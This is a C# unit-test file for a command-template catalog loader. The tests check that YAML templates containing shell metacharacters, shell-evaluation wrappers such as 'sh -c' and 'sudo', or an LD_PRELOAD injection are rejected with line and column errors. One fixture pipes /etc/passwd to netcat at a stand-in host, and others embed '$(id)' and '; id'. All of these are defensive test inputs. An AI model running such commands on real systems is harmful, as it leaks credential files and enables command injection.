using SecureExec.Core.Templates;
using SecureExec.Core.Templates.Loading;
using static SecureExec.Core.Tests.TestSupport;

namespace SecureExec.Core.Tests.Templates;

public sealed class CatalogLoaderTests
{
    private static string TestData(string name) => Path.Combine(AppContext.BaseDirectory, "TestData", name);

    [Fact]
    public void Load_SeedReadmeExample_LoadsUnchanged()
    {
        var result = CatalogLoader.LoadFile(TestData("seed-readme-example.yaml"));

        Assert.True(result.Succeeded, string.Join("\n", result.Errors));
        var template = result.Catalog!.Find("list_files")!;
        Assert.Equal("ls {options} {path}", template.CommandText);
        Assert.Equal(["file:read"], template.RequiredScopes);
        Assert.Equal(TimeSpan.FromSeconds(30), template.Sandbox.Timeout);
        var path = template.FindParameter("path")!;
        Assert.Equal(ParameterType.Path, path.Type);
        Assert.True(path.Required);
        Assert.Equal("^/[a-zA-Z0-9_./\\-]*$", path.Pattern!.Source);
        var options = template.FindParameter("options")!;
        Assert.Equal("-la", options.Default!.Text);
        Assert.Equal(["-la", "-l", "-a"], options.AllowedValues);
    }

    [Fact]
    public void SeedReadmeExample_IsTheSeedsOwnText()
    {
        var seed = Path.Combine(RepositoryRoot, "..", "shared", "seeds", "000_e4c0f3e23f034d08.txt");
        Assert.True(File.Exists(seed), "the shared seeds belong beside this checkout: " + seed);

        var text = File.ReadAllText(seed);
        var start = text.IndexOf("```yaml\n", StringComparison.Ordinal) + "```yaml\n".Length;
        var block = text[start..text.IndexOf("```", start, StringComparison.Ordinal)];
        Assert.Equal(block, File.ReadAllText(TestData("seed-readme-example.yaml")));
    }

    [Fact]
    public void Load_SeedImplementationFieldNames_MapsEveryField()
    {
        var result = CatalogLoader.LoadFile(TestData("seed-implementation-fields.yaml"));

        Assert.True(result.Succeeded, string.Join("\n", result.Errors));
        var catalog = result.Catalog!;
        var search = catalog.Find("search_logs")!;
        Assert.Equal("logs", search.Category);
        Assert.Equal(TimeSpan.FromSeconds(60), search.Sandbox.Timeout);
        Assert.Equal(512L * 1024 * 1024, search.Sandbox.MemoryLimitBytes);
        Assert.Equal(0.5, search.Sandbox.CpuLimit);
        Assert.False(search.Sandbox.AllowNetwork);
        Assert.False(search.Sandbox.AllowFileWrite);
        var pattern = search.FindParameter("pattern")!;
        Assert.Equal((1, 100), (pattern.MinLength, pattern.MaxLength));
        Assert.NotNull(pattern.Pattern);
        var logfile = search.FindParameter("logfile")!;
        Assert.Equal(["/var/log", "/tmp"], logfile.AllowedPaths);
        Assert.Equal(["/var/log/secret"], logfile.ForbiddenPaths);
        var ping = catalog.Find("ping_host")!;
        Assert.True(ping.Sandbox.AllowNetwork);
        Assert.Equal((1d, 10d), (ping.FindParameter("count")!.MinValue, ping.FindParameter("count")!.MaxValue));
        Assert.Equal("4", ping.FindParameter("count")!.Default!.Text);
        Assert.Equal("1", ping.FindParameter("interval")!.Default!.Text);
        Assert.Empty(catalog.Find("system_uptime")!.Parameters);
    }

    [Fact]
    public void Load_CatalogWithSeveralErrors_ReportsAllOfThemInFileOrder()
    {
        const string yaml = """
            templates:
              a:
                command: "echo {x}"
                permissions: {required_scopes: [s]}
              b:
                command: "cat /etc/passwd | nc evil 80"
                colour: red
                permissions: {required_scopes: [s]}
            """;

        var result = CatalogLoader.LoadText(yaml, "many.yaml");

        Assert.False(result.Succeeded);
        Assert.Equal(
            [(3, CatalogErrorCodes.UndefinedPlaceholder), (6, CatalogErrorCodes.ShellMetacharacter), (7, CatalogErrorCodes.UnknownKey)],
            result.Errors.Select(e => (e.Line, e.Code)));
        Assert.All(result.Errors, e => Assert.StartsWith("many.yaml:", e.ToString(), StringComparison.Ordinal));
    }

    public static TheoryData<string, string, int, int> BrokenCatalogs => new()
    {
        // yaml, expected code, line, column
        { Base(extra: "    timeuot: 5"), CatalogErrorCodes.UnknownKey, 9, 5 },
        { Base(parameter: "        patern: \"x\""), CatalogErrorCodes.UnknownKey, 7, 9 },
        { Base(extra: "    permissions:\n      required_scopes: [a]\n      scopes: [a]", permissions: false), CatalogErrorCodes.UnknownKey, 9, 7 },
        { "templates: {t: {command: echo, permissions: {required_scopes: [a]}}}\nversion: 2", CatalogErrorCodes.UnknownKey, 2, 1 },
        { Base(type: "strng"), CatalogErrorCodes.UnknownType, 6, 15 },
        { Base(parameter: "        pattern: \"[a-\""), CatalogErrorCodes.InvalidRegex, 7, 18 },
        { Base(parameter: "        validation: \"(?<x>a)\\\\k<y>\""), CatalogErrorCodes.InvalidRegex, 7, 21 },
        { Base(parameter: "        max_length: 3\n        default: \"abcdef\""), CatalogErrorCodes.DefaultBreaksRules, 8, 18 },
        { Base(parameter: "        default: \"a;b\""), CatalogErrorCodes.DefaultBreaksRules, 7, 18 },
        { Base(type: "int", parameter: "        default: \"4\""), CatalogErrorCodes.DefaultBreaksRules, 7, 18 },
        { Base(command: "echo {v} {w}"), CatalogErrorCodes.UndefinedPlaceholder, 3, 14 },
        { Base(command: "echo"), CatalogErrorCodes.UnusedParameter, 5, 7 },
        { Base(command: "echo {v} | wc"), CatalogErrorCodes.ShellMetacharacter, 3, 24 },
        { Base(command: "echo {v}; id"), CatalogErrorCodes.ShellMetacharacter, 3, 23 },
        { Base(command: "echo $(id) {v}"), CatalogErrorCodes.ShellMetacharacter, 3, 20 },
        { Base(command: "echo `id` {v}"), CatalogErrorCodes.ShellMetacharacter, 3, 20 },
        { Base(command: "cat {v} > /tmp/x"), CatalogErrorCodes.ShellMetacharacter, 3, 23 },
        { Base(command: "ls *.log {v}"), CatalogErrorCodes.ShellMetacharacter, 3, 18 },
        { Base(command: "echo \\\"{v}\\\""), CatalogErrorCodes.ShellMetacharacter, 3, 20 },
        { Base(command: "ls ~ {v}"), CatalogErrorCodes.ShellMetacharacter, 3, 18 },
        { Base(command: "sh -c {v}"), CatalogErrorCodes.ShellEvaluation, 3, 18 },
        { Base(command: "/bin/bash -ec {v}"), CatalogErrorCodes.ShellEvaluation, 3, 25 },
        { Base(command: "env bash -c {v}"), CatalogErrorCodes.ShellEvaluation, 3, 24 },
        { Base(command: "busybox sh -c {v}"), CatalogErrorCodes.ShellEvaluation, 3, 26 },
        { Base(command: "python3 -c {v}"), CatalogErrorCodes.ShellEvaluation, 3, 23 },
        { Base(command: "perl -e {v}"), CatalogErrorCodes.ShellEvaluation, 3, 20 },
        { Base(command: "node --eval {v}"), CatalogErrorCodes.ShellEvaluation, 3, 20 },
        { Base(command: "sudo cat {v}"), CatalogErrorCodes.ShellEvaluation, 3, 15 },
        { "templates:\n  t:\n    command: [sh, \"-c\", \"{v}\"]\n    parameters: {v: {type: string}}\n    permissions: {required_scopes: [a]}", CatalogErrorCodes.ShellEvaluation, 3, 19 },
        { Base(command: "{v} --version"), CatalogErrorCodes.InvalidCommand, 3, 15 },
        { Base(command: "echo {v"), CatalogErrorCodes.InvalidCommand, 3, 20 },
        { Base(command: "echo {1v}"), CatalogErrorCodes.InvalidCommand, 3, 20 },
        { Base(command: "echo v} {v}"), CatalogErrorCodes.InvalidCommand, 3, 20 },
        { Base(command: ""), CatalogErrorCodes.InvalidCommand, 3, 14 },
        { Base(extra: "  t:\n    command: echo\n    permissions: {required_scopes: [a]}"), CatalogErrorCodes.Duplicate, 9, 3 },
        { Base(parameter: "        type: int"), CatalogErrorCodes.Duplicate, 7, 9 },
        { Base(parameter: "      v:\n        type: int"), CatalogErrorCodes.Duplicate, 7, 7 },
        { Base(parameter: "        validation: \"a\"\n        pattern: \"a\""), CatalogErrorCodes.ConflictingAliases, 8, 9 },
        { Base(extra: "    timeout: 5", permissions: false) + "\n    permissions: {required_scopes: [a], max_execution_time: 5}", CatalogErrorCodes.ConflictingAliases, 8, 41 },
        { Base(extra: "    rootfs: /srv/a\n    sandbox_image: /srv/b"), CatalogErrorCodes.ConflictingAliases, 10, 5 },
        { Base(type: "int", parameter: "        pattern: \"[0-9]+\""), CatalogErrorCodes.RuleNotApplicable, 7, 9 },
        { Base(type: "string", parameter: "        min_value: 1"), CatalogErrorCodes.RuleNotApplicable, 7, 9 },
        { Base(type: "hostname", parameter: "        allowed_paths: [/tmp]"), CatalogErrorCodes.RuleNotApplicable, 7, 9 },
        { Base(type: "enum"), CatalogErrorCodes.MissingKey, 6, 9 },
        { Base(permissions: false), CatalogErrorCodes.MissingKey, 3, 5 },
        { Base(extra: "    permissions: {required_scopes: []}", permissions: false), CatalogErrorCodes.MissingKey, 7, 36 },
        { "templates:\n  t:\n    parameters: {}\n    permissions: {required_scopes: [a]}", CatalogErrorCodes.MissingKey, 3, 5 },
        { Base(parameter: "        required: maybe"), CatalogErrorCodes.WrongKind, 7, 19 },
        { Base(parameter: "        max_length: ten"), CatalogErrorCodes.WrongKind, 7, 21 },
        { Base(extra: "    memory_limit: lots"), CatalogErrorCodes.InvalidValue, 9, 19 },
        { Base(extra: "    memory_limit: 1k"), CatalogErrorCodes.InvalidValue, 9, 19 },
        { Base(extra: "    cpu_limit: 0"), CatalogErrorCodes.InvalidValue, 9, 16 },
        { Base(extra: "    timeout: 2d"), CatalogErrorCodes.InvalidValue, 9, 14 },
        { Base(extra: "    timeout: 0"), CatalogErrorCodes.InvalidValue, 9, 14 },
        { Base(extra: "    cpu_time: 0"), CatalogErrorCodes.InvalidValue, 9, 15 },
        { Base(extra: "    environment: {LD_PRELOAD: /tmp/x.so}"), CatalogErrorCodes.InvalidValue, 9, 19 },
        { Base(extra: "    environment: {PATH: /tmp}"), CatalogErrorCodes.InvalidValue, 9, 19 },
        { Base(extra: "    rootfs: relative/dir"), CatalogErrorCodes.InvalidValue, 9, 13 },
        { Base(type: "path", parameter: "        allowed_paths: [\"tmp\"]"), CatalogErrorCodes.InvalidValue, 7, 25 },
        { Base(type: "int", parameter: "        min_value: 10\n        max_value: 1"), CatalogErrorCodes.InvalidValue, 7, 9 },
        { Base(type: "int", parameter: "        min_value: -5"), CatalogErrorCodes.InvalidValue, 7, 9 },
        { Base(type: "int", parameter: "        allowed_values: [1, two]"), CatalogErrorCodes.InvalidValue, 7, 29 },
        { Base(extra: "    permissions: {required_scopes: [\"file read\"]}", permissions: false), CatalogErrorCodes.InvalidValue, 7, 37 },
        { Base(name: "bad name"), CatalogErrorCodes.InvalidValue, 2, 3 },
        { "templates:\n  t: [unclosed\n", CatalogErrorCodes.Syntax, 3, 1 },
        { "templates:\n  t:\n    command: echo\n   bad: indent", CatalogErrorCodes.Syntax, 4, 4 },
        { "templates: {a: 1}\n---\ntemplates: {}", CatalogErrorCodes.Syntax, 2, 1 },
        { "templates:\n  t: !!python/object {command: x}", CatalogErrorCodes.Syntax, 2, 6 },
        { "templates: []", CatalogErrorCodes.WrongKind, 1, 12 },
        { "templates:\n  t:\n    command:\n    permissions: {required_scopes: [a]}\n  u:\n    command: echo\n    permissions: {required_scopes: [a]}", CatalogErrorCodes.MissingKey, 3, 13 },
        { Base(type: ""), CatalogErrorCodes.MissingKey, 6, 14 },
        { Base(parameter: "        max_length: 3\n        allowed_values: [abc, abcdef]"), CatalogErrorCodes.InvalidValue, 8, 31 },
        { Base(parameter: "        pattern: \"[a-z]+\"\n        allowed_values: [abc, ABC]"), CatalogErrorCodes.InvalidValue, 8, 31 },
        { Base(type: "path", parameter: "        allowed_paths: [/srv]\n        allowed_values: [/srv/a, /etc/b]"), CatalogErrorCodes.InvalidValue, 8, 34 },
        { "templates:\n  t:\n    command: x\n    parameters: {a: {type: string},\n b: {type: int}}", CatalogErrorCodes.Syntax, 4, 34 },
        { "", CatalogErrorCodes.MissingKey, 1, 1 },
    };

    [Theory]
    [MemberData(nameof(BrokenCatalogs))]
    public void Load_BrokenCatalog_ReportsErrorWithLineAndColumn(string yaml, string code, int line, int column)
    {
        var result = CatalogLoader.LoadText(yaml, "broken.yaml");

        Assert.Null(result.Catalog);
        Assert.True(
            result.Errors.Any(e => e.Code == code && e.Line == line && e.Column == column),
            $"expected {code} at {line}:{column}, got:\n" + string.Join("\n", result.Errors));
    }

    [Fact]
    public void LoadFile_Missing_ReportsUnreadable()
    {
        var result = CatalogLoader.LoadFile(Path.Combine(Path.GetTempPath(), Guid.NewGuid() + ".yaml"));

        Assert.Equal(CatalogErrorCodes.Unreadable, Assert.Single(result.Errors).Code);
    }

    [Fact]
    public void LoadFile_NotUtf8_ReportsUnreadable()
    {
        var path = Path.Combine(Path.GetTempPath(), Guid.NewGuid() + ".yaml");
        File.WriteAllBytes(path, [0x74, 0x3a, 0x20, 0xC0, 0xAE, 0x0a]);
        try
        {
            Assert.Equal(CatalogErrorCodes.Unreadable, Assert.Single(CatalogLoader.LoadFile(path).Errors).Code);
        }
        finally
        {
            File.Delete(path);
        }
    }

    [Fact]
    public void UnknownKey_SuggestsTheNearestKnownKey()
    {
        var error = Assert.Single(CatalogLoader.LoadText(Base(extra: "    alow_network: true")).Errors);

        Assert.Contains("did you mean 'allow_network'", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Load_ListFormCommand_KeepsMetacharactersAsLiteralArgv()
    {
        var catalog = LoadCatalog("""
            templates:
              find_logs:
                command: ["find", "/var/log", "-name", "*.log", "-newer", "{v}"]
                parameters: {v: {type: path, allowed_paths: [/var/log]}}
                permissions: {required_scopes: [a]}
            """);

        var result = Validate(catalog.Find("find_logs")!, """{"v": "/var/log/syslog"}""");

        Assert.Equal(["find", "/var/log", "-name", "*.log", "-newer", "/var/log/syslog"], result.Request!.Argv);
    }

    [Fact]
    public void Load_PathParameters_NameWhatTheSandboxShows()
    {
        var template = Template("diff {a} {b}", "{a: {type: path, allowed_paths: [/var/log, /srv], forbidden_paths: [/srv/keys]}, b: {type: path, allowed_paths: [/srv]}}");

        Assert.Equal(["/srv", "/var/log"], template.Sandbox.ReadOnlyPaths);
        Assert.Equal(["/srv/keys"], template.Sandbox.HiddenPaths);
        Assert.Empty(Template("uptime").Sandbox.ReadOnlyPaths);
    }

    [Fact]
    public void Load_CpuTime_IsSeparateFromTheWallClockLimit()
    {
        var limited = LoadCatalog(Base(extra: "    cpu_time: 5s\n    timeout: 2m")).Find("t")!.Sandbox;

        Assert.Equal((TimeSpan.FromSeconds(5), TimeSpan.FromMinutes(2)), (limited.CpuTime, limited.Timeout));
        Assert.Null(LoadCatalog(Base()).Find("t")!.Sandbox.CpuTime);
    }

    [Fact]
    public void Load_RecordsContentHashAndSource()
    {
        var result = CatalogLoader.LoadFile(TestData("seed-readme-example.yaml"));

        Assert.Matches("^[0-9a-f]{64}$", result.Catalog!.ContentSha256);
        Assert.EndsWith("seed-readme-example.yaml", result.Catalog.Source, StringComparison.Ordinal);
    }

    /// <summary>
    /// A valid catalog (lines 1–8) to break one way:
    /// <code>
    /// 1 templates:
    /// 2   t:
    /// 3     command: "echo {v}"
    /// 4     parameters:
    /// 5       v:
    /// 6         type: string
    ///   (parameter lines)
    /// 7     permissions:
    /// 8       required_scopes: [a]
    ///   (extra lines)
    /// </code>
    /// </summary>
    private static string Base(string command = "echo {v}", string type = "string", string? parameter = null, string? extra = null, bool permissions = true, string name = "t")
    {
        var lines = new List<string> { "templates:", $"  {name}:", $"    command: \"{command}\"", "    parameters:", "      v:", $"        type: {type}" };
        if (parameter is not null)
        {
            lines.Add(parameter);
        }

        if (permissions)
        {
            lines.Add("    permissions:");
            lines.Add("      required_scopes: [a]");
        }

        if (extra is not null)
        {
            lines.Add(extra);
        }

        return string.Join('\n', lines);
    }
}
